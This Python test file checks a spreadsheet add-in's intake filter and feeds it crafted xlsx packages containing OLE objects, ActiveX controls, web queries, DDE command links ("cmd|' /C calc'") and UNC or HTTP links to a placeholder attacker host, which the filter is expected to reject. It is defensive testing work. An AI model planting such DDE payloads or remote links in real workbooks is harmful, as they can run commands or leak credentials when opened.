"""Package hygiene by relationship (issue 21): every part of a submission is judged by the
relationships that reach it and its content type, never by its folder, through the whole
intake path. Each file is built here as Excel writes it (tests/ooxml.py, from ECMA-376
Part 1 and Part 2): the red team's placements (an OLE object in ``xl/Embeddings/`` or as
``xl/media/image9.bin``, ActiveX in ``xl/ctrl/``, a web query at ``xl/conn.xml``, DDE and
UNC links at ``xl/links/ext1.xml``, names differing only in case) are refused with their
reason; what Excel, LibreOffice and WPS save beside the cells is accepted."""

from __future__ import annotations

import io
import zipfile

import pytest
from hypothesis import given
from hypothesis import strategies as st

import ooxml
from addin.intake.hygiene import check_names, refers_outside
from addin.intake.run import ACCEPTED, REJECTED
from test_intake import _template_parts, by_name, filled, master_value, run, templates, work  # noqa: F401

SHEET = "xl/worksheets/sheet1.xml"


def master_bytes(work) -> bytes:
    return (work / "master.xlsx").read_bytes()


def _linked_picture(parts: ooxml.Parts) -> None:
    # a picture linked, not embedded (§20.1.8.14 blip r:link): fetched from the share when opened
    ooxml.add_relationship(parts, SHEET, "rIdPic", "image", "\\\\evil.example\\share\\logo.png", external=True)


def _unreferenced(parts: ooxml.Parts) -> None:
    parts["xl/notes.xml"] = b'<?xml version="1.0"?><notes>not in any relationship</notes>'


HOSTILE = {
    # name: (steps, code, what the reason names)
    "ole_in_Embeddings.xlsx": ((ooxml.ole_object("xl/Embeddings/oleObject1.bin"),), "embedded_object",
                               "xl/Embeddings/oleObject1.bin"),
    "ole_as_media_bin.xlsx": ((ooxml.ole_object("xl/media/image9.bin"),), "embedded_object", "xl/media/image9.bin"),
    "ole_typed_as_picture.xlsx": ((ooxml.ole_object("xl/media/image9.png", kind="image",
                                                    content_type=ooxml.CT["png"]),), "embedded_object",
                                  "xl/media/image9.png"),
    "activex_in_ctrl.xlsx": ((ooxml.activex_control("xl/ctrl/ctrl1.xml"),), "activex", "xl/ctrl/ctrl1.xml"),
    "web_query_conn.xlsx": ((ooxml.web_query("http://evil.example/q.html", part="xl/conn.xml"),), "data_connection",
                            "xl/conn.xml"),
    "dde_cmd.xlsx": ((ooxml.dde_link("cmd", "/C calc", part="xl/links/ext1.xml"),), "dde", "cmd|/C calc"),
    "unc_link.xlsx": ((ooxml.external_link("\\\\evil.example\\share\\kaohe.xlam", part="xl/links/ext1.xml"),),
                      "external_links", "\\\\evil.example\\share\\kaohe.xlam"),
    "http_link.xlsx": ((ooxml.external_link("http://evil.example/kaohe.xlam", part="xl/links/ext1.xml"),),
                       "external_links", "http://evil.example/kaohe.xlam"),
    "other_book.xlsx": ((ooxml.external_link("file:///C:/data/other.xlsx"),), "external_links",
                        "file:///C:/data/other.xlsx"),
    "linked_picture.xlsx": ((_linked_picture,), "external_resource", "\\\\evil.example\\share\\logo.png"),
    "unreferenced.xlsx": ((_unreferenced,), "unreferenced_part", "xl/notes.xml"),
}


def test_run_intake__active_content_and_links_out_are_refused_by_relationship_not_folder(
        work, templates, municipal, audit):
    plain = filled(templates, work).read_bytes()
    for name, (steps, _code, _where) in HOSTILE.items():
        (work / "inbox" / name).write_bytes(ooxml.rewrite(plain, *steps))
    before = master_bytes(work)
    result = run(work, municipal, audit)
    got = {o.envelope.file_name: (o.status, [p.code for p in o.problems]) for o in result.outcomes}
    assert got == {name: (REJECTED, [code]) for name, (_steps, code, _where) in HOSTILE.items()}
    for name, (_steps, _code, where) in HOSTILE.items():
        message = by_name(result, name).problems[0].message
        assert where in message and "[" in message and message.index("[") > 0, (name, message)
    assert master_bytes(work) == before


def _case_twins(parts: ooxml.Parts) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in parts.items():
            z.writestr(name, data)
        z.writestr("xl/worksheets/Sheet1.xml", parts[SHEET].replace(b"<v>1</v>", b"<v>0</v>"))
    return buf.getvalue()


def test_run_intake__parts_whose_names_differ_only_in_case_are_refused(work, templates, municipal, audit):
    (work / "inbox" / "twins.xlsx").write_bytes(_case_twins(_template_parts(filled(templates, work))))
    o = run(work, municipal, audit).outcomes[0]
    assert (o.status, o.problems[0].code) == (REJECTED, "duplicate_parts")
    assert "xl/worksheets/sheet1.xml / xl/worksheets/Sheet1.xml" in o.problems[0].message


def test_run_intake__what_excel_saves_beside_the_cells_is_accepted(work, templates, municipal, audit):
    # calcChain, custom properties, custom XML, printer settings, a theme, a hyperlink to the
    # web, shared strings, and the add-in's link as Excel records it when the path is missing
    data = ooxml.rewrite(filled(templates, work).read_bytes(), ooxml.excel_extras, ooxml.shared_strings,
                         ooxml.hyperlink("https://www.example.gov.cn/guide", cell="B5"),
                         ooxml.external_link("kaohe.xlam", path_kind="http://schemas.microsoft.com/office/2006/"
                                                                       "relationships/xlExternalLinkPath/xlPathMissing"))
    (work / "inbox" / "excel.xlsx").write_bytes(data)
    o = run(work, municipal, audit).outcomes[0]
    assert (o.status, o.problems) == (ACCEPTED, [])
    assert master_value(work, "部门", "B001", "党风廉政建设") == 9.2


# --- the reader's defects, through intake --------------------------------------------------


def test_run_intake__shared_strings_named_in_another_case_are_read(work, templates, municipal, audit):
    # K4: the part is xl/SharedStrings.xml, its relationship says sharedStrings.xml
    data = ooxml.rewrite(filled(templates, work).read_bytes(), ooxml.shared_strings,
                         ooxml.rename_part("xl/sharedStrings.xml", "xl/SharedStrings.xml"))
    (work / "inbox" / "case.xlsx").write_bytes(data)
    o = run(work, municipal, audit).outcomes[0]
    assert o.status == ACCEPTED and o.values["附表1.1.6.note"] == "日常表现良好"
    assert master_value(work, "部门", "B001", "党风廉政建设") == 9.2


def test_run_intake__escaped_characters_in_a_typed_text_are_read_as_typed(work, templates, municipal, audit):
    # K1: a note typed with a line break (Alt+Enter, saved as CR LF); Excel escapes the CR
    data = ooxml.rewrite(filled(templates, work).read_bytes(), ooxml.shared_strings,
                         ooxml.shared_string("日常表现良好", "日常_x000D_\n表现_x005F_x0041_良好"))
    (work / "inbox" / "escaped.xlsx").write_bytes(data)
    o = run(work, municipal, audit).outcomes[0]
    assert o.status == ACCEPTED and o.values["附表1.1.6.note"] == "日常\r\n表现_x0041_良好"


def _with_name(parts_bytes: bytes, name: str, text: str) -> bytes:
    def step(parts: ooxml.Parts) -> None:
        wb = parts["xl/workbook.xml"].decode()
        parts["xl/workbook.xml"] = wb.replace("</definedNames>", f'<definedName name="{name}">{ooxml._escape(text)}'
                                                                 "</definedName></definedNames>").encode()
    return ooxml.rewrite(parts_bytes, step)


def test_run_intake__a_name_holding_a_structured_reference_is_the_workbooks_own(work, templates, municipal, audit):
    # K6: Table1[得分] is a table's column (MS-XLSX §2.2.2 structured references), not a file
    plain = filled(templates, work).read_bytes()
    (work / "inbox" / "table.xlsx").write_bytes(_with_name(plain, "合计", "SUM(Table1[得分],Table1[[#This Row],[a]])"))
    (work / "inbox" / "book.xlsx").write_bytes(_with_name(plain, "Leak", "[1]Sheet1!$A$1"))
    result = run(work, municipal, audit)
    assert by_name(result, "table.xlsx").status == ACCEPTED
    leak = by_name(result, "book.xlsx")
    assert (leak.status, leak.problems[0].code) == (REJECTED, "external_name") and "Leak" in leak.problems[0].message


@pytest.mark.parametrize("text", [
    "[1]Sheet1!$A$1", "'[1]Sheet 1'!A1", "[1]!ITEM", "SUM([2]Data!A:A)", "'C:\\x\\[b.xlsx]S'!A1",
    "'\\\\evil\\share\\[x.xlsx]S'!$A$1", "'http://evil.example/[b.xlsx]S'!A1", "cmd|' /C calc'!A0",
    "=\\\\evil\\share", "Excel.Sheet|'x'!R1C1", '"unterminated', "'unterminated!A1",
])
def test_refers_outside__another_file_or_program(text):
    assert refers_outside(text)


@pytest.mark.parametrize("text", [
    "Sheet1!$A$1", "'附表 1'!$F$8", "'S1:S3'!A1", "SUM(Table1[c])", "Table1[[#Headers],[a]:[b]]",
    "Table1[['[x']]]", 'IF(A1="[1]x|y",1,0)', "_xlfn.SUM(A1)", "'O''Brien'!A1", "#REF!",
])
def test_refers_outside__the_workbooks_own(text):
    assert not refers_outside(text)


@given(st.text(max_size=40))
def test_refers_outside__a_string_literal_never_points_outside(text):
    literal = '"' + text.replace('"', '""') + '"'
    assert not refers_outside(f"IF(A1={literal},1,0)")


def test_check_names__ours_are_compared_with_the_template_not_here():
    names = {(None, "KH_IN_x"): "[1]Sheet1!A1", (None, "Other"): "[1]Sheet1!A1", ("S", "Local"): "S!A1"}
    assert [p.code for p in check_names(names, "f.xlsx")] == ["external_name"]


# --- the verdict follows the relationship, wherever the part is -----------------------------

PART_PATH = st.tuples(st.sampled_from(["xl", "XL", "xl/media", "xl/Embeddings", "custom", "xl/ctrl", "docProps"]),
                      st.from_regex(r"[A-Za-z][A-Za-z0-9]{0,7}", fullmatch=True),
                      st.sampled_from(["bin", "BIN", "png", "dat", "xml"])).map(lambda t: f"{t[0]}/{t[1]}.{t[2]}").filter(
    lambda p: not {p.lower(), p.lower().rpartition(".")[0] + ".xml"} & {"xl/styles.xml", "xl/workbook.xml",
                                                                          "docprops/app.xml", "docprops/core.xml"})
PNG = b"\x89PNG\r\n\x1a\n" + b"\0" * 32


def _verdict(*steps) -> list[str]:
    from addin.intake.package import check_package, open_package
    from addin.intake.xlsx import read_book

    parts = ooxml.workbook({"S": '<row r="1"><c r="A1"><v>1</v></c></row>'})
    for step in steps:
        step(parts)
    archive, problem = open_package(ooxml.pack(parts), "t.xlsx")
    assert problem is None, problem
    return [p.code for p in check_package(archive, read_book(archive, "t.xlsx"), "t.xlsx")]


@given(PART_PATH)
def test_check_package__an_embedded_object_is_refused_wherever_it_is(path):
    assert _verdict(ooxml.ole_object(path, content_type=None)) == ["embedded_object"]


@given(PART_PATH)
def test_check_package__an_activex_control_is_refused_wherever_it_is(path):
    assert _verdict(ooxml.activex_control(path.rpartition(".")[0] + ".xml")) == ["activex"]


@given(PART_PATH)
def test_check_package__a_picture_is_accepted_wherever_it_is_and_refused_when_no_relationship_reaches_it(path):
    assert _verdict(ooxml.ole_object(path, kind="image", content_type=None, data=PNG)) == []

    def orphan(parts):
        parts[path] = PNG

    assert _verdict(orphan) == ["unreferenced_part"]
